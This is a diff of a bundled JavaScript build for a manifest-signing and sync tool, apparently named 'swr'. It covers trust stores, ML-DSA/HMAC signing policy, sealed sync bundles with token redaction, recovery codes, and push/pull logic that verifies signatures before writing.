-            fs.rmSync(p, { force: true });
+            external_node_fs_default().rmSync(p, { force: true });
         throw err;
     }
 }
 function alreadyExists(file) {
-    return new SwrError(`${file} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
+    return new errors_SwrError(`${file} already exists: keygen never replaces a key`, errors_EXIT.BAD_MANIFEST);
 }
 /** The sync key's seed: SWR_SYNC_KEY (64 hex digits) wins over the key file. */
-function loadSyncSeed(stateDir, envValue) {
+function keys_loadSyncSeed(stateDir, envValue) {
     if (envValue !== undefined && envValue !== '') {
         if (!/^[0-9a-fA-F]{64}$/.test(envValue.trim()))
-            throw new SwrError('SWR_SYNC_KEY must be 64 hex digits', EXIT.BAD_MANIFEST);
+            throw new errors_SwrError('SWR_SYNC_KEY must be 64 hex digits', errors_EXIT.BAD_MANIFEST);
         return Buffer.from(envValue.trim(), 'hex');
     }
-    const text = readPrivate(keys_keyPath(stateDir, SYNC_KEY_FILE));
+    const text = readPrivate(keyPath(stateDir, SYNC_KEY_FILE));
     if (text === undefined)
         return undefined;
     if (!/^[0-9a-f]{64}\s*$/.test(text))
-        throw new SwrError(`${keys_keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, EXIT.UNREPAIRABLE);
+        throw new errors_SwrError(`${keyPath(stateDir, SYNC_KEY_FILE)}: not a valid seed`, errors_EXIT.UNREPAIRABLE);
     return Buffer.from(text.trim(), 'hex');
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/trust.ts
-/**
- * Which ML-DSA signers this machine trusts. Locally: a trust store in the private state directory
- * (`trust.json`, 0600) plus this machine's own identity. In CI: fingerprints or public keys from an
- * action input, never from files of the checked-out tree.
- */
-
-
-
-
-
-
-function storePath(stateDir) {
-    return external_node_path_default().join(stateDir, 'trust.json');
-}
-function readTrustStore(stateDir) {
-    let text;
-    try {
-        text = external_node_fs_default().readFileSync(storePath(stateDir), 'utf8');
-    }
-    catch {
-        return [];
-    }
-    try {
-        const v = JSON.parse(text);
-        if (v.v !== 1 || !Array.isArray(v.signers))
-            throw new Error('shape');
-        return v.signers.filter(s => mldsa_normalizeFingerprint(s.fingerprint) === s.fingerprint && typeof s.name === 'string');
-    }
-    catch {
-        throw new errors_SwrError(`${storePath(stateDir)}: trust store is damaged; fix or remove it`, errors_EXIT.UNREPAIRABLE);
-    }
-}
-function writeTrustStore(stateDir, signers) {
-    ensurePrivateDir(stateDir);
-    writeFileAtomic(storePath(stateDir), JSON.stringify({ v: 1, signers }, null, 2) + '\n', {
-        mode: 0o600
-    });
-}
-function addTrusted(stateDir, fp, name, now) {
-    const norm = normalizeFingerprint(fp);
-    if (!norm)
-        throw new SwrError(`${fp}: not a fingerprint (64 hex digits, spaces allowed)`, EXIT.BAD_MANIFEST);
-    const signers = readTrustStore(stateDir).filter(s => s.fingerprint !== norm);
-    const signer = { fingerprint: norm, name, added: now.toISOString() };
-    writeTrustStore(stateDir, [...signers, signer]);
-    return signer;
-}
-/** Remove by fingerprint or name; returns what was removed. */
-function removeTrusted(stateDir, what) {
-    const norm = normalizeFingerprint(what);
-    const signers = readTrustStore(stateDir);
-    const removed = signers.filter(s => s.fingerprint === norm || s.name === what);
-    if (removed.length === 0)
-        throw new SwrError(`no trusted signer matches ${what}`, EXIT.BAD_MANIFEST);
-    writeTrustStore(stateDir, signers.filter(s => !removed.includes(s)));
-    return removed;
-}
-/**
- * Trusted fingerprints from an input: one per line (or comma-separated), each a fingerprint or a
- * base64 public key (whose fingerprint is computed); text after whitespace following a public key,
- * or after "#", is a comment.
- */
-function parseTrustedSigners(text) {
-    const out = new Set();
-    for (const raw of text.split(/[\n,]/)) {
-        const line = raw.replace(/#.*/, '').trim();
-        if (!line)
-            continue;
-        const fp = mldsa_normalizeFingerprint(line);
-        if (fp) {
-            out.add(fp);
-            continue;
-        }
-        const token = line.split(/\s+/)[0] ?? '';
-        const key = /^[A-Za-z0-9+/]+={0,2}$/.test(token) ? Buffer.from(token, 'base64') : undefined;
-        if (key && key.length === PUBLIC_KEY_BYTES)
-            out.add(fingerprint(key));
-        else
-            throw new errors_SwrError(`trusted signer "${line.slice(0, 40)}": not a fingerprint or ML-DSA-87 public key`, errors_EXIT.BAD_MANIFEST);
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/core/sign/policy.ts
-/**
- * Building the gate's policy from explicit sources. The CLI passes its environment, flags and the
- * local trust store; the Action passes its inputs (trust never comes from the checked-out tree).
- */
-
-
-
-
-
-
-
-function parseRequirement(v) {
-    if (!REQUIREMENTS.includes(v)) {
-        throw new errors_UsageError(`require must be one of ${REQUIREMENTS.join(', ')} (got "${v}")`);
-    }
-    return v;
-}
-/**
- * Why `threshold` cannot mean what it says under `require`, or undefined when it can. A threshold
- * counts distinct trusted ML-DSA signers whose signatures verify (an HMAC key is shared by everyone
- * who verifies with it, so it tells no signers apart): above 1 it needs a requirement that cannot be
- * met without ML-DSA, mldsa or both. Under any, one HMAC signature would run recipes without them.
- * `spell` names the option and the requirement as the shell spells them (--threshold, input require).
- */
-function thresholdProblem(require, threshold, spell = { threshold: 'threshold', require: 'require' }) {
-    if (threshold === undefined || threshold <= 1 || require === 'mldsa' || require === 'both')
-        return undefined;
-    const why = require === 'any'
-        ? `one HMAC signature alone meets ${spell.require} any`
-        : `${spell.require} hmac asks for no ML-DSA signature`;
-    return `${spell.threshold} ${threshold} counts distinct trusted ML-DSA signers, but ${why}: use ${spell.require} mldsa or both`;
-}
-/** The manifest's path relative to its workspace, as a scope's manifest_path names it. */
-function manifestPathInWorkspace(m) {
-    return paths_isInside(m.workspace, m.file)
-        ? external_node_path_default().relative(m.workspace, m.file).split((external_node_path_default()).sep).join('/')
-        : undefined;
-}
-function makePolicy(m, src) {
-    const trusted = new Set();
-    if (src.local)
-        for (const s of readTrustStore(src.stateDir))
-            trusted.add(s.fingerprint);
-    if (src.ownFingerprint)
-        trusted.add(src.ownFingerprint);
-    for (const t of src.trustedSigners)
-        for (const fp of parseTrustedSigners(t))
-            trusted.add(fp);
-    const require = parseRequirement(src.require);
-    const problem = thresholdProblem(require, src.threshold, src.spell);
-    if (problem)
-        throw new errors_UsageError(problem);
-    const hmac = src.local ? loadHmacKey(src.stateDir, src.hmacKeyText) : undefined;
-    return {
-        require,
-        hmacKey: hmac?.key ?? (src.hmacKeyText ? loadHmacKey(src.stateDir, src.hmacKeyText)?.key : undefined),
-        trusted,
-        threshold: src.threshold,
-        minVersion: src.minVersion,
-        remembered: src.local ? recall(src.stateDir, m.file, m.body.scope) : undefined,
-        run: { ...src.run, manifestPath: manifestPathInWorkspace(m) },
-        now: src.now,
-        waiveDigest: src.waiveDigest
-    };
 }
 
 ;// CONCATENATED MODULE: ./src/core/sync/redact.ts
@@ -14443,7 +10662,7 @@ function makePolicy(m, src) {
 function preview(value) {
     return value.length <= 12 ? '…' : `${value.slice(0, 4)}…${value.slice(-4)}`;
 }
-function redact(text) {
+function redact_redact(text) {
     const byValue = new Map();
     const used = new Set();
     const previews = {};
@@ -14520,7 +10739,7 @@ function ab(bytes) {
     return new Uint8Array(bytes).buffer;
 }
 /** The X-Wing public key of a sync seed (what `swr peer mine` prints). */
-async function syncPublicKey(seed) {
+async function bundle_syncPublicKey(seed) {
     const s = await suite();
     const kp = await s.kem.deriveKeyPair(ab(seed));
     return Buffer.from(await s.kem.serializePublicKey(kp.publicKey));
@@ -14544,11 +10763,11 @@ function bundle_parsePublicKey(text) {
     return bytes.length === bundle_PUBLIC_KEY_BYTES ? bytes : undefined;
 }
 /** Pack in clear (the caller decided it may: no escrow, tokens redacted). */
-function packPlain(bundle) {
+function bundle_packPlain(bundle) {
     return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
 }
 /** Pack sealed to every public key in `recipients` (at least one). */
-async function packSealed(bundle, recipients) {
+async function bundle_packSealed(bundle, recipients) {
     if (recipients.length === 0 || recipients.length > MAX_RECIPIENTS)
         throw new SwrError(`a bundle is sealed to 1 to ${MAX_RECIPIENTS} recipients, not ${recipients.length}`, EXIT.BAD_MANIFEST);
     const s = await suite();
@@ -14631,7 +10850,7 @@ function envelopeInfo(bytes) {
  * Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal.
  * A bundle in clear is accepted only with `allowPlain` (sealed is the default on both ends).
  */
-async function unpackBundle(bytes, seed, opts = {}) {
+async function bundle_unpackBundle(bytes, seed, opts = {}) {
     if (bytes.length > bundle_MAX_BUNDLE_BYTES)
         throw bundle_refuse(`${bytes.length} bytes, over the ${bundle_MAX_BUNDLE_BYTES}-byte limit`);
     let env;
@@ -14670,7 +10889,7 @@ async function recipientFor(seed, enc, info) {
 async function openV1(env, seed) {
     if (env.suite !== SUITE_NAME)
         throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
-    if (env.recipient !== bundle_recipientId(await syncPublicKey(seed)))
+    if (env.recipient !== bundle_recipientId(await bundle_syncPublicKey(seed)))
         throw bundle_refuse('it is sealed to another sync key');
     try {
         const recipient = await recipientFor(seed, b64(env.enc, 'enc'), INFO_V1);
@@ -14685,7 +10904,7 @@ async function openV2(env, seed) {
         throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
     if (!Array.isArray(env.recipients) || env.recipients.length > MAX_RECIPIENTS)
         throw bundle_refuse('malformed recipient list');
-    const mine = bundle_recipientId(await syncPublicKey(seed));
+    const mine = bundle_recipientId(await bundle_syncPublicKey(seed));
     const slot = env.recipients.find(r => r?.id === mine);
     if (!slot)
         throw bundle_refuse('it is sealed to another sync key');
@@ -14711,7 +10930,7 @@ async function openV2(env, seed) {
 function syncKeyPrefix(scope) {
     return `swr-manifest-v1-${createHash('sha256').update(scope).digest('hex').slice(0, 16)}-`;
 }
-function sha256Hex(bytes) {
+function bundle_sha256Hex(bytes) {
     return createHash('sha256').update(bytes).digest('hex');
 }
 
@@ -15320,7 +11539,7 @@ function http_store_httpStore(template, ctx) {
 
 
 
-function openStore(spec, ctx) {
+function open_openStore(spec, ctx) {
     switch (storeKind(spec)) {
         case 'git':
             return gitStore(spec, ctx);
@@ -15335,10 +11554,10 @@ function openStore(spec, ctx) {
     }
 }
 /** The store that holds the copy at `locator`. */
-function storeOfLocator(locator, ctx) {
+function open_storeOfLocator(locator, ctx) {
     if (storeKind(locator) === 'git')
         return gitStore(`git:${parseGitLocator(locator).remote}`, ctx);
-    return openStore(locator, ctx);
+    return open_openStore(locator, ctx);
 }
 
 ;// CONCATENATED MODULE: ./src/core/sync/peers.ts
@@ -15423,7 +11642,7 @@ function removePeer(stateDir, name) {
     save(stateDir, peers.filter(p => p !== gone));
     return gone;
 }
-function findPeer(stateDir, name) {
+function peers_findPeer(stateDir, name) {
     const p = loadPeers(stateDir).find(x => x.name === name);
     if (!p)
         throw new UsageError(`no peer named "${name.slice(0, 64)}" (add it with "swr peer add")`);
@@ -15479,12 +11698,12 @@ function checkWord(pin, locator) {
 function grouped(pin) {
     return pin.match(/.{1,5}/g)?.join('-') ?? pin;
 }
-function makeCode(locator, sha256Hex) {
+function recovery_code_makeCode(locator, sha256Hex) {
     const pin = pinOf(sha256Hex);
     return `${CODE_PREFIX}:${grouped(pin)}:${checkWord(pin, locator)}:${locator}`;
 }
 /** Parse a typed code; every mistake is a one-line usage error. */
-function parseCode(text) {
+function recovery_code_parseCode(text) {
     const code = text.trim();
     const parts = /^([^:]*):([^:]*):([^:]*):(.+)$/s.exec(code);
     if (!parts || parts[1]?.toLowerCase() !== CODE_PREFIX)
@@ -15501,7 +11720,7 @@ function parseCode(text) {
     return { pin, locator };
 }
 /** Whether bytes with this SHA-256 are the copy the code names. */
-function pinMatches(code, sha256Hex) {
+function recovery_code_pinMatches(code, sha256Hex) {
     return pinOf(sha256Hex) === code.pin;
 }
 
@@ -15535,12 +11754,12 @@ function load(stateDir) {
         throw err;
     }
 }
-function replicasOf(stateDir, manifest) {
+function replicas_replicasOf(stateDir, manifest) {
     const list = load(stateDir)[manifest];
     return Array.isArray(list) ? list.filter(r => r && typeof r.locator === 'string') : [];
 }
 /** Replace the record of `manifest` with `replicas` (the newest push). */
-function recordReplicas(stateDir, manifest, replicas) {
+function replicas_recordReplicas(stateDir, manifest, replicas) {
     const all = load(stateDir);
     delete all[manifest];
     const kept = Object.entries(all).slice(-(MAX_MANIFESTS - 1));
@@ -15552,18 +11771,5337 @@ function recordReplicas(stateDir, manifest, replicas) {
     writeFileAtomic(replicas_file(stateDir), JSON.stringify(doc, null, 2) + '\n', { mode: 0o600 });
 }
 
+;// CONCATENATED MODULE: ./src/core/engine/sync.ts
+/**
+ * push, pull and sync status as use cases: carry the signed manifest (with its tree indexes) off
+ * the machine, to git remotes, HTTP stores and the Actions cache (sync/), so a machine whose
+ * workspace and home were wiped can recover the recipe book first, from one recovery code.
+ *
+ * - `push` seals a copy (HPKE with X-Wing) to this machine's sync key and any named peers, or,
+ *   only when allowed, packs it in clear with its tokens redacted and never with escrow; stores it
+ *   in each store, reads each copy back, records the copies that read back intact and returns one
+ *   line of outcome per store with the recovery code.
+ * - `pull` fetches the first copy a source yields (refusing one that fails its pin), opens it,
+ *   fills the variables named for a redacted copy, verifies exactly what would be written through
+ *   the gate (and, when values were filled in, a trusted signature over them first), checks each
+ *   tree index against the signed manifest, and only then writes, never over an existing file.
+ * - `syncStatus` reads each recorded copy back and returns its reachability, hash health and age.
+ *
+ * The shell supplies the store context (stderr notes, the Actions cache adapter), the trust
+ * policy and the store lists it reads from flags or the environment; these functions print
+ * nothing and return finished results.
+ */
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/**
+ * The store's key tail for this manifest's copies in the Actions cache: version and digest, so a
+ * new version is a new entry (the cache never overwrites one).
+ */
+function pushKeyTail(m) {
+    return `v${m.body.version}-${m.digest.slice(0, 16)}`;
+}
+async function push(m, ctx, opts) {
+    if (m.format !== 3)
+        throw new UsageError(`${m.file} is a format-2 manifest: import it first`);
+    const name = checkName(opts.name ?? defaultName(m.file));
+    const trees = treeIndexes(m);
+    const seed = loadSyncSeed(opts.stateDir, opts.syncKeyText);
+    const peers = (opts.peers ?? []).map(n => findPeer(opts.stateDir, n));
+    const recipients = [...(seed ? [await syncPublicKey(seed)] : []), ...peers.map(p => p.key)];
+    const recipientNames = [...(seed ? ['this machine'] : []), ...peers.map(p => p.name)];
+    const text = fs.readFileSync(m.file, 'utf8');
+    const sealed = recipients.length > 0;
+    const packed = sealed
+        ? { bytes: await packSealed({ manifest: text, trees }, recipients), redacted: [] }
+        : packInClear(m, text, trees, opts.plaintextOk ?? false);
+    const sha256 = sha256Hex(packed.bytes);
+    const replicas = [];
+    const records = [];
+    for (const spec of opts.stores) {
+        try {
+            const store = openStore(spec, ctx);
+            const locator = await store.put(packed.bytes, { name, sha256 });
+            // The copy counts once it reads back exactly as sent.
+            const back = await store.get(locator);
+            if (sha256Hex(back.bytes) !== sha256)
+                throw new SwrError(`${spec}: the stored copy reads back different bytes`, EXIT.UNREPAIRABLE);
+            const code = makeCode(locator, sha256);
+            replicas.push({ store: spec, ok: true, locator, code });
+            records.push({
+                store: spec,
+                locator,
+                sha256,
+                bytes: packed.bytes.length,
+                pushed_at: (opts.now?.() ?? new Date()).toISOString(),
+                code,
+                sealed
+            });
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            replicas.push({ store: spec, ok: false, error: message(err) });
+        }
+    }
+    if (records.length > 0)
+        recordReplicas(opts.stateDir, m.file, records);
+    return {
+        kind: 'push',
+        manifest: m.file,
+        digest: m.digest,
+        version: m.body.version,
+        name,
+        sealed,
+        recipients: recipientNames,
+        redacted: packed.redacted,
+        sha256,
+        bytes: packed.bytes.length,
+        replicas,
+        code: records[0]?.code,
+        ok: replicas.every(r => r.ok)
+    };
+}
+/** The tree indexes the manifest's entries name and that exist, base64. */
+function treeIndexes(m) {
+    const trees = {};
+    for (const e of m.body.entries) {
+        if (e.kind !== 'tree' || !e.expect.index)
+            continue;
+        const p = indexPath(m.file, e.id);
+        if (fs.existsSync(p))
+            trees[e.id] = fs.readFileSync(p).toString('base64');
+    }
+    return trees;
+}
+/** A copy in clear: only when asked for, never with escrow, never with a token-shaped name. */
+function packInClear(m, text, trees, plaintextOk) {
+    if (m.body.entries.some(e => e.kind === 'file' && e.escrow))
+        throw new SwrError('this manifest carries escrowed bytes and is never sent in clear: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), or name a peer with --to-peer', EXIT.UNREPAIRABLE);
+    if (!plaintextOk)
+        throw new SwrError('push seals every copy and there is no key to seal it to: create a sync key with "swr keygen" (or set SWR_SYNC_KEY), name a peer with --to-peer, or pass --plaintext-ok to publish it in clear (tokens redacted)', EXIT.UNREPAIRABLE);
+    for (const [id, b64] of Object.entries(trees))
+        if (hasTokenShape(Buffer.from(b64, 'base64').toString('latin1')))
+            throw new SwrError(`the index of tree "${id}" holds a token-shaped name: it is never sent in clear`, EXIT.UNREPAIRABLE);
+    const r = redact(text);
+    return {
+        bytes: packPlain({
+            manifest: r.text,
+            trees,
+            ...(r.variables.length ? { redacted: r.variables } : {})
+        }),
+        redacted: r.variables.map(v => ({ variable: v, preview: r.previews[v] ?? '' }))
+    };
+}
+async function pull(ctx, opts) {
+    const target = opts.target;
+    if (fs.existsSync(target)) {
+        if (opts.ifMissing)
+            return { kind: 'pull', status: 'present', manifest: target };
+        throw new UsageError(`${target} already exists: pull never overwrites a manifest (pass -m NEW.json)`);
+    }
+    const got = await fetchFirst(sources(opts.source, ctx, target), ctx);
+    const named = expandList(opts.expand);
+    const opened = await unpackBundle(got.bytes, loadSyncSeed(opts.stateDir, opts.syncKeyText), {
+        allowPlain: Boolean(opts.plaintextOk || named.length > 0)
+    });
+    const bundle = opened.bundle;
+    const redacted = bundle.redacted ?? [];
+    const text = redacted.length > 0 ? expand(bundle.manifest, redacted, named, opts.env) : bundle.manifest;
+    // Verify exactly what will be written, as if it were already in place.
+    const m = pulledManifest(redacted.length > 0
+        ? parseFilled(text, bundle.manifest)
+        : format3(parseManifestText(text, 'pulled manifest')), opts);
+    const policy = opts.policyFor(m);
+    // Values filled in from the environment are quoted by nothing until a trusted signature holds
+    // over them: a planted copy could place ${ANY_VARIABLE} where a refusal would quote it.
+    if (redacted.length > 0) {
+        const held = await signaturesHold(gateInput(m), policy);
+        if (!held.allowed)
+            throw new SwrError(`pulled manifest refused: ${held.reason}`, EXIT.UNREPAIRABLE);
+    }
+    const gate = await decide(gateInput(m), policy);
+    if (!gate.allowed)
+        throw new SwrError(`pulled manifest refused: ${gate.reason}`, EXIT.UNREPAIRABLE);
+    const sidecars = checkedIndexes(m, bundle);
+    fs.mkdirSync(path.dirname(target), { recursive: true });
+    for (const [p, bytes] of sidecars) {
+        fs.mkdirSync(path.dirname(p), { recursive: true });
+        writeFileAtomic(p, bytes, { exclusive: true });
+    }
+    writeFileAtomic(target, text, { exclusive: true });
+    return {
+        kind: 'pull',
+        status: 'pulled',
+        manifest: target,
+        locator: got.locator,
+        sha256: sha256Hex(got.bytes),
+        sealed: opened.sealed,
+        expanded: redacted,
+        digest: m.digest,
+        version: m.body.version,
+        reason: gate.reason
+    };
+}
+function sources(src, ctx, target) {
+    if (src.code !== undefined) {
+        if (src.from)
+            throw new UsageError('--code names its store: leave out --from');
+        const code = parseCode(src.code);
+        return [{ locator: code.locator, check: sha => pinMatches(code, sha) }];
+    }
+    if (src.sha256 !== undefined && !/^[0-9a-f]{64}$/i.test(src.sha256))
+        throw new UsageError('--sha256 takes 64 hex digits');
+    const pin = src.sha256?.toLowerCase();
+    const name = checkName(src.name ?? defaultName(target));
+    return (src.from ?? src.defaultStores).map(spec => ({
+        locator: openStore(spec, ctx).locate(name),
+        check: pin ? sha => sha === pin : undefined
+    }));
+}
+/** The first copy any source yields; a copy that fails its pin is refused outright. */
+async function fetchFirst(list, ctx) {
+    const misses = [];
+    for (const s of list) {
+        let bytes;
+        try {
+            bytes = (await storeOfLocator(s.locator, ctx).get(s.locator)).bytes;
+        }
+        catch (err) {
+            if (err instanceof UsageError)
+                throw err;
+            misses.push(message(err));
+            continue;
+        }
+        const sha = sha256Hex(bytes);
+        if (s.check && !s.check(sha))
+            throw new SwrError(`pulled bundle refused: ${s.locator} holds bytes whose sha256 (${sha.slice(0, 16)}…) is not the pinned one`, EXIT.UNREPAIRABLE);
+        return { bytes, locator: s.locator };
+    }
+    throw new SwrError(`pull: no store gave a copy: ${misses.join('; ')}`, EXIT.UNREPAIRABLE);
+}
+/** The --expand names, each given alone or comma-separated. */
+function expandList(given) {
+    const names = (given ?? []).flatMap(g => g.split(',')).map(s => s.trim());
+    const bad = names.find(n => !VARIABLE_NAME.test(n));
+    if (bad !== undefined)
+        throw new UsageError(`--expand ${escapeText(bad, { max: 80 })}: not a variable name a redacted copy uses (GITHUB_TOKEN, URL_PASSWORD, ...)`);
+    return names;
+}
+function format3(parsed) {
+    if (parsed.format !== 3)
+        throw new SwrError('pulled bundle refused: not a format-3 manifest', EXIT.UNREPAIRABLE);
+    return parsed;
+}
+/**
+ * The filled-in text parsed. Its own errors could quote the values, so they are never shown: the
+ * stored text's error (which quotes only what the copy holds) is, or a line that names no value.
+ */
+function parseFilled(filled, stored) {
+    try {
+        return format3(parseManifestText(filled, 'pulled manifest'));
+    }
+    catch {
+        format3(parseManifestText(stored, 'pulled manifest'));
+        throw new SwrError('pulled bundle refused: the copy is not a valid manifest once filled in from the environment (the reason is not shown: it could quote the values)', EXIT.UNREPAIRABLE);
+    }
+}
+function pulledManifest(parsed, opts) {
+    return {
+        file: opts.target,
+        format: 3,
+        doc: parsed.doc,
+        body: parsed.doc.body,
+        digest: manifestDigest(parsed.doc.body),
+        workspace: resolveWorkspace(opts.target, parsed.doc.body.workspace, {
+            workspace: opts.workspace,
+            cwd: opts.cwd
+        }),
+        lines: parsed.lines,
+        notes: parsed.notes
+    };
+}
+/**
+ * The tree indexes to write beside the manifest, each matching the signed manifest. An index
+ * already there is kept when it is this one, and never replaced when it is not.
+ */
+function checkedIndexes(m, bundle) {
+    const sidecars = new Map();
+    for (const e of m.body.entries) {
+        if (e.kind !== 'tree' || !e.expect.index)
+            continue;
+        const bytes = Buffer.from(bundle.trees[e.id] ?? '', 'base64');
+        if (sha256Hex(bytes) !== e.expect.index.sha256)
+            throw new SwrError(`pulled bundle refused: the index of tree "${e.id}" does not match the signed manifest`, EXIT.UNREPAIRABLE);
+        const p = indexPath(m.file, e.id);
+        if (fs.existsSync(p)) {
+            if (fs.readFileSync(p).equals(bytes))
+                continue;
+            throw new UsageError(`${p} already exists with other bytes: pull never overwrites it`);
+        }
+        sidecars.set(p, bytes);
+    }
+    return sidecars;
+}
+/** Each copy pushed from this machine for `file`, read back and compared with its record. */
+async function syncStatus(file, ctx, opts) {
+    const now = () => (opts.now?.() ?? new Date()).getTime();
+    const rows = [];
+    for (const r of replicasOf(opts.stateDir, file)) {
+        const row = {
+            store: r.store,
+            locator: r.locator,
+            reachable: false,
+            health: 'unreachable',
+            sha256: r.sha256,
+            pushed_at: r.pushed_at,
+            age_s: null
+        };
+        try {
+            const store = storeOfLocator(r.locator, ctx);
+            const st = await store.stat(r.locator);
+            const got = await store.get(r.locator);
+            row.reachable = true;
+            row.health = sha256Hex(got.bytes) === r.sha256 ? 'ok' : 'mismatch';
+            const at = got.storedAt ?? st.storedAt ?? new Date(r.pushed_at);
+            row.age_s = Number.isFinite(at.getTime())
+                ? Math.max(0, Math.round((now() - at.getTime()) / 1000))
+                : null;
+        }
+        catch (err) {
+            row.detail = message(err);
+        }
+        rows.push(row);
+    }
+    return {
+        kind: 'sync-status',
+        manifest: file,
+        healthy: rows.length > 0 && rows.every(r => r.health === 'ok'),
+        replicas: rows
+    };
+}
+/** The copy's default name: the workspace folder's name, which a fresh box recreates alike. */
+function defaultName(manifestFile) {
+    const base = path
+        .basename(path.dirname(path.dirname(path.resolve(manifestFile))))
+        .replace(/[^A-Za-z0-9._-]+/g, '-')
+        .replace(/^[^A-Za-z0-9]+/, '')
+        .replace(/\.\.+/g, '.')
+        .slice(0, 64);
+    return base && !base.endsWith('.lock') ? base : 'manifest';
+}
+function message(err) {
+    return err instanceof Error ? err.message : String(err);
+}
+
+;// CONCATENATED MODULE: ./src/core/manifest/write.ts
+/**
+ * Creating and saving manifests. The body is written with a fixed key order so diffs stay small;
+ * the file is replaced atomically, and a new manifest never overwrites one that appeared meanwhile.
+ */
+
+
+
+
+
+
+
+const SCHEMA_URL = 'urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json';
+/** The workspace as the manifest records it: relative when the manifest sits inside it. */
+function spellWorkspace(manifestFile, workspace) {
+    const dir = path.dirname(path.resolve(manifestFile));
+    if (isInside(workspace, dir))
+        return path.relative(dir, workspace) || '.';
+    return workspace;
+}
+function write_newDocument(manifestFile, workspace, now) {
+    return {
+        $schema: SCHEMA_URL,
+        body: {
+            schema: 3,
+            version: 1,
+            workspace: spellWorkspace(manifestFile, workspace),
+            created: now.toISOString().replace(/\.\d+Z$/, 'Z'),
+            entries: []
+        },
+        signatures: []
+    };
+}
+const write_ENTRY_KEYS = [
+    'id',
+    'kind',
+    'path',
+    'tier',
+    'needs',
+    'restore',
+    'timeout_s',
+    'env',
+    'secret_env',
+    'smoke',
+    'smoke_timeout_s',
+    'note',
+    'ignore',
+    'expect',
+    'escrow'
+];
+function orderEntry(e) {
+    const src = e;
+    const out = {};
+    for (const k of write_ENTRY_KEYS)
+        if (src[k] !== undefined)
+            out[k] = src[k];
+    // Fields without a place in the order keep theirs after the known ones: never drop data.
+    for (const [k, v] of Object.entries(src))
+        if (!(k in out) && v !== undefined)
+            out[k] = v;
+    return out;
+}
+function serializeDocument(doc) {
+    const body = {
+        schema: 3,
+        version: doc.body.version,
+        workspace: doc.body.workspace,
+        created: doc.body.created,
+        ...(doc.body.expires !== undefined ? { expires: doc.body.expires } : {}),
+        ...(doc.body.scope !== undefined ? { scope: doc.body.scope } : {}),
+        ...(doc.body.shell !== undefined ? { shell: doc.body.shell } : {}),
+        entries: doc.body.entries.map(orderEntry)
+    };
+    return (JSON.stringify({ $schema: doc.$schema ?? SCHEMA_URL, body, signatures: doc.signatures }, null, 2) + '\n');
+}
+/**
+ * Refuse a document the loader would refuse (schema, ids, needs, cycles, bounds): an edit must
+ * never write, let alone sign, a manifest every later command rejects. One line, exit 4.
+ */
+function assertWritable(file, text) {
+    const problems = manifestProblems(JSON.parse(text), { lines: new Map(), file: path.basename(file) }, text);
+    if (problems.length === 0)
+        return;
+    const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
+    throw new ManifestError(`${problems[0]}${more}; nothing was written`, problems);
+}
+function write_saveManifest(file, doc, opts = {}) {
+    const text = serializeDocument(doc);
+    assertWritable(file, text);
+    if (!opts.create)
+        assertUnchangedSinceRead(file);
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    for (const [p, bytes] of opts.sidecars ?? []) {
+        fs.mkdirSync(path.dirname(p), { recursive: true });
+        writeFileAtomic(p, bytes);
+    }
+    const bytes = Buffer.from(text, 'utf8');
+    writeFileAtomic(file, bytes, { exclusive: opts.create === true });
+    noteManifestBytes(file, bytes);
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/edit-rules.ts
+/**
+ * Editing rules: no signature laundering. An editing command (add, import, escrow, retighten, ...)
+ * may change a signed manifest only when its signature verifies here, or when the user approved
+ * the exact loaded content (--approve-digest); then it re-signs. An unsigned manifest stays
+ * unsigned after an edit (`swr sign` is the explicit approval), unless this machine remembers
+ * accepting a signed version of it: then the missing signatures are treated as stripped.
+ */
+
+
+const HOW_TO_APPROVE = 'review the manifest (its recipes are code), then approve exactly that content with --approve-digest and the digest that "swr verify" shows';
+async function edit_rules_authorizeEdit(m, policy, approveDigest) {
+    if (approveDigest !== undefined) {
+        if (approveDigest.toLowerCase() !== m.digest) {
+            throw new errors_SwrError(`--approve-digest does not match the manifest's digest: it changed since it was reviewed`, errors_EXIT.UNREPAIRABLE);
+        }
+        return { resign: true, note: `approved digest ${m.digest}` };
+    }
+    if (m.doc.signatures.length === 0) {
+        if (policy.remembered &&
+            policy.remembered.signed !== false &&
+            policy.remembered.digest !== m.digest) {
+            throw new errors_SwrError(`${m.file}: a signed version of this manifest was accepted here, and this copy is unsigned and different: refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
+        }
+        return { resign: false, note: 'manifest is unsigned: run "swr sign" to approve it' };
+    }
+    // Renewing an expired manifest or moving it is an edit like any other: only signatures and rollback count.
+    const input = gate_gateInput(m);
+    const decision = await gate_decide(input, { ...policy, require: 'any', waiveDigest: undefined }, { ...ALL_DEFENSES, expiry: false, scope: false });
+    if (!decision.allowed) {
+        throw new errors_SwrError(`${m.file}: signature does not verify (${decision.reason}): refusing to edit; ${HOW_TO_APPROVE}`, errors_EXIT.UNREPAIRABLE);
+    }
+    return { resign: true };
+}
+
+;// CONCATENATED MODULE: ./src/core/sign/sign.ts
+/**
+ * Signing a manifest: raise `version`, then sign the new body with every key this machine holds
+ * (HMAC and/or ML-DSA). Old signatures are dropped: they covered another body.
+ */
+
+
+
+
+function sign_hasSigningKey(keys) {
+    return keys.hmacKey !== undefined || keys.identity !== undefined;
+}
+/** A new document: same entries, a version above both the old one and `floor`, fresh signatures. */
+async function sign_signDocument(doc, keys, 
+/** The highest version already accepted on this machine: signing goes above it. */
+floor = 0) {
+    const body = { ...doc.body, version: Math.max(doc.body.version, floor) + 1 };
+    const input = signingInput(body);
+    const signatures = [];
+    if (keys.hmacKey)
+        signatures.push(signHmac(keys.hmacKey, input));
+    if (keys.identity)
+        signatures.push(await signMldsa(keys.identity, input));
